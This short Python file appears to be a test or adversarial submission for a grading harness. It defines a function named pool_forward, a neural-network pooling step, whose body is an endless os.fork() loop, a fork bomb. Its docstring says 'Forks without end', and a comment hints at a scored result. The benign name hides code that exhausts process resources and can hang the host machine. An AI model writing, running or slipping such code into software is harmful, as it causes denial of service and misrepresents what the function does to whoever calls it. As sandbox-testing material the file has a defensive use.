"""Forks without end."""
# loses: pool_forward=15 error
import os


def pool_forward(A_prev, hparameters, mode="max"):
    while True:
        os.fork()
